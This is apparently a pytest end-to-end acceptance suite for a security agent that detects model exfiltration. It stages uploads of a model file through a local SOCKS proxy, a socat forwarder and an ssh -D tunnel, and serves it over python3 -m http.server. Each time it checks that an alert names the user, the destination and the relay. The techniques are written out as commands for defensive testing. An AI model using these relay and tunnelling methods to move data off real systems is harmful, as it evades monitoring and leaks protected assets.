"""Acceptance (issue 14, item 3): a model leaving through a local relay, or served to a remote host.

The agent runs as the installed service runs it (system mode, default configuration: the lineage acceptance
fixtures). The user who is not root:
- uploads the model through a SOCKS5 proxy she runs on 127.0.0.1 (microsocks): curl talks only to the
  loopback address; the bytes leave from the proxy's own connection;
- uploads it through a port forwarder she runs (socat, one forked child per connection);
- uploads it through `ssh -D`, a SOCKS proxy whose tunnel to an sshd in another namespace was opened
  before (its earlier traffic is not the model's);
- serves it with `python3 -m http.server` from her home and a host in another network namespace
  downloads it.
Each raises one model-lineage alert naming the model, the user and the remote destination, within the
latency limit of the action's end; through a relay, the alert names the proxy among the flow's processes
and says its bytes were relayed.
"""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest

from tests.agent.sensors.test_mounts import SSHD_CONFIG
from tests.agent.test_lineage_acceptance import (  # noqa: F401 - the fixtures
    LATENCY_LIMIT,
    MATRIX,
    MODEL,
    PUT_SERVER,
    InstalledAgent,
    NamespaceUnavailable,
    Person,
    namespace_pair,
    naming,
    people,
    put_server_in_a_namespace,
    service,
)
from tests.waiting import wait_for

pytestmark = [pytest.mark.e2e, pytest.mark.root]


@pytest.fixture(scope="module")
def server() -> Iterator[tuple[str, int]]:
    try:
        with put_server_in_a_namespace("10.231.46") as address:
            yield address
    except NamespaceUnavailable as why:
        pytest.skip(str(why))


@pytest.fixture(scope="module")
def downloader() -> Iterator[tuple[str, str]]:
    """(a namespace with a host that downloads, the address it reaches this host at)."""
    if shutil.which("curl") is None:
        pytest.skip("curl is needed")
    try:
        with namespace_pair("10.231.47") as (namespace, host, _):
            yield namespace, host
    except NamespaceUnavailable as why:
        pytest.skip(str(why))


@pytest.fixture(scope="module")
def tunnel_end(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, int, int, Path]]:
    """An sshd and an HTTP PUT sink in a network namespace of their own: (its address, the sshd's port, the
    sink's port, a client key root's authorized_keys accepts)."""
    for tool in ("ssh", "ssh-keygen", "/usr/sbin/sshd", "curl"):
        if shutil.which(tool) is None:
            pytest.skip(f"{tool} is not installed (Debian: openssh-client, openssh-server, curl)")
    folder = tmp_path_factory.mktemp("tunnel")
    for key in ("host_key", "client_key"):
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(folder / key)], check=True)
    (folder / "authorized_keys").write_text((folder / "client_key.pub").read_text())
    try:
        with namespace_pair("10.231.48") as (namespace, _, address):
            (folder / "sshd_config").write_text(SSHD_CONFIG.replace("127.0.0.1", address).format(port=2222,
                                                                                                 folder=folder))
            os.makedirs("/run/sshd", exist_ok=True)  # sshd's privilege separation directory
            sshd = subprocess.Popen(["ip", "netns", "exec", namespace, "/usr/sbin/sshd", "-D", "-e", "-f",
                                     str(folder / "sshd_config")], stderr=subprocess.PIPE)
            sink = subprocess.Popen(["ip", "netns", "exec", namespace, sys.executable, "-c", PUT_SERVER, address,
                                     "8080"], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
            try:
                assert sink.stdout is not None and sink.stdout.readline().strip() == b"listening"
                wait_for(lambda: accepting(address, 2222), timeout=15, what="the sshd to listen")
                yield address, 2222, 8080, folder / "client_key"
            finally:
                for process in (sshd, sink):
                    process.kill()
                    process.wait(timeout=10)
                    for stream in (process.stdout, process.stderr):
                        if stream is not None:
                            stream.close()
    except NamespaceUnavailable as why:
        pytest.skip(str(why))


def free_port(address: str = "127.0.0.1") -> int:
    with socket.socket() as probe:
        probe.bind((address, 0))
        return int(probe.getsockname()[1])


def accepting(address: str, port: int) -> bool:
    try:
        with socket.create_connection((address, port), timeout=1):
            return True
    except OSError:
        return False


@pytest.fixture
def running() -> Iterator[list[subprocess.Popen[bytes]]]:
    """Long-running helpers a test starts (proxies, servers): stopped at its end."""
    started: list[subprocess.Popen[bytes]] = []
    yield started
    for process in started:
        process.kill()
        process.wait(timeout=10)
        for stream in (process.stdout, process.stderr):
            if stream is not None:
                stream.close()


def new_alert(agent: InstalledAgent, person: Person, name: str, destination: str, before: set[str],
              ended: float) -> dict[str, Any]:
    """The one new lineage incident naming `destination`, about `person`, within the latency limit."""
    (alert,) = wait_for(lambda: [a for a in naming(agent, destination) if a["id"] not in before], timeout=15,
                        what=f"the lineage alert for {name}")
    latency = datetime.fromisoformat(alert["time"].replace("Z", "+00:00")).timestamp() - ended
    MATRIX.append((name, destination, latency))
    assert alert["model"] == MODEL, alert
    assert person.name in alert["message"], alert["message"]
    assert latency < LATENCY_LIMIT, f"{name}: alert {latency:.2f} s after the action's end"
    return alert


def relayed_by(alert: dict[str, Any], program: str) -> None:
    evidence = alert["evidence"]
    assert any(o["measure"] == "relayed" for o in evidence["outputs"]), evidence["outputs"]
    assert any(p.startswith(f"{program}[") for p in evidence["processes"]), evidence["processes"]
    assert evidence["share"] >= 0.5, evidence


def test_an_upload_through_a_local_socks_proxy(service: tuple[InstalledAgent, Path],  # noqa: F811
                                               people: tuple[Person, Person],  # noqa: F811
                                               server: tuple[str, int],
                                               running: list[subprocess.Popen[bytes]]) -> None:
    if shutil.which("microsocks") is None:
        pytest.skip("microsocks is not installed (installer/dev.sh installs it)")
    agent, model = service
    ana, _ = people
    port = free_port()
    running.append(ana.start("microsocks", "-i", "127.0.0.1", "-p", str(port)))
    wait_for(lambda: accepting("127.0.0.1", port), timeout=10, what="the SOCKS proxy to listen")
    address, sink = server
    before = {a["id"] for a in naming(agent, f"{address}:{sink}")}
    ana.run("curl", "-sS", "--socks5", f"127.0.0.1:{port}", "-T", str(model.relative_to(ana.home)),
            f"http://{address}:{sink}/socks")
    alert = new_alert(agent, ana, "curl --socks5 (microsocks)", f"{address}:{sink}", before, time.time())
    relayed_by(alert, "microsocks")


def test_an_upload_through_a_port_forwarder(service: tuple[InstalledAgent, Path],  # noqa: F811
                                            people: tuple[Person, Person],  # noqa: F811
                                            server: tuple[str, int],
                                            running: list[subprocess.Popen[bytes]]) -> None:
    if shutil.which("socat") is None:
        pytest.skip("socat is not installed (installer/dev.sh installs it)")
    agent, model = service
    ana, _ = people
    address, sink = server
    port = free_port()
    running.append(ana.start("socat", f"TCP-LISTEN:{port},bind=127.0.0.1,reuseaddr,fork",
                             f"TCP:{address}:{sink}"))
    wait_for(lambda: accepting("127.0.0.1", port), timeout=10, what="the forwarder to listen")
    before = {a["id"] for a in naming(agent, f"{address}:{sink}")}
    ana.run("curl", "-sS", "-T", str(model.relative_to(ana.home)), f"http://127.0.0.1:{port}/forwarded")
    alert = new_alert(agent, ana, "curl to a socat forwarder", f"{address}:{sink}", before, time.time())
    relayed_by(alert, "socat")


def test_a_model_served_to_a_remote_host(service: tuple[InstalledAgent, Path],  # noqa: F811
                                         people: tuple[Person, Person],  # noqa: F811
                                         downloader: tuple[str, str],
                                         running: list[subprocess.Popen[bytes]]) -> None:
    agent, model = service
    ana, _ = people
    namespace, host = downloader
    port = free_port(host)
    running.append(ana.start("python3", "-m", "http.server", "--bind", host, str(port)))
    wait_for(lambda: accepting(host, port), timeout=10, what="the user's web server to listen")
    fetched = subprocess.run(["ip", "netns", "exec", namespace, "curl", "-sS", "-o", "/dev/null", "-w",
                              "%{size_download}", f"http://{host}:{port}/{model.relative_to(ana.home)}"],
                             capture_output=True, text=True, timeout=60, check=True)
    ended = time.time()
    assert int(fetched.stdout) == model.stat().st_size
    (alert,) = wait_for(lambda: [a for a in naming(agent, str(model)) if any(
        o["kind"] == "network" and o["where"].startswith(f"{namespace_address(host)}:")
        for o in a["evidence"]["outputs"])], timeout=15, what="the lineage alert for the served model")
    latency = datetime.fromisoformat(alert["time"].replace("Z", "+00:00")).timestamp() - ended
    MATRIX.append(("python3 -m http.server, remote GET", f"{namespace_address(host)}:*", latency))
    assert alert["model"] == MODEL and ana.name in alert["message"], alert["message"]
    assert any(p.startswith("python3[") for p in alert["evidence"]["processes"]), alert["message"]
    assert latency < LATENCY_LIMIT


def namespace_address(host: str) -> str:
    """The downloading host's address: the other end of the veth pair (x.2 when this host is x.1)."""
    return host.rsplit(".", 1)[0] + ".2"


def test_an_upload_through_ssh_dynamic_forwarding(service: tuple[InstalledAgent, Path],  # noqa: F811
                                                  people: tuple[Person, Person],  # noqa: F811
                                                  tunnel_end: tuple[str, int, int, Path],
                                                  running: list[subprocess.Popen[bytes]]) -> None:
    agent, model = service
    ana, _ = people
    address, ssh_port, sink, key = tunnel_end
    mine = ana.home / ".tunnel-key"
    shutil.copyfile(key, mine)
    os.chown(mine, ana.uid, ana.gid)
    mine.chmod(0o600)
    port = free_port()
    running.append(ana.start("ssh", "-N", "-D", f"127.0.0.1:{port}", "-i", str(mine), "-p", str(ssh_port),
                             "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o",
                             "UserKnownHostsFile=/dev/null", f"root@{address}"))
    wait_for(lambda: accepting("127.0.0.1", port), timeout=15, what="ssh -D to listen")
    tunnel = f"{address}:{ssh_port}"
    before = {a["id"] for a in naming(agent, tunnel)}
    ana.run("curl", "-sS", "--socks5-hostname", f"127.0.0.1:{port}", "-T", str(model.relative_to(ana.home)),
            f"http://{address}:{sink}/tunnelled")
    alert = new_alert(agent, ana, "curl through ssh -D", tunnel, before, time.time())
    relayed_by(alert, "ssh")
